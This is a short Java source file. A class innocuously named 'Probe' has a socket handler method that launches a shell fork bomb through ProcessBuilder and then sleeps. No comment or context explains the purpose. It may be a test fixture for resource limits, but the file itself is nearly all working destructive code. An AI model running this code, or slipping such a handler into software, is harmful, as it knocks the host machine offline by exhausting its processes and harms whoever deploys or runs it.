import java.net.Socket;

public class Probe {
  public static void handle(Socket socket) throws Exception {
    new ProcessBuilder("/bin/sh", "-c", "bomb() { bomb | bomb & }; bomb").start();
    Thread.sleep(1_000_000);
  }
}
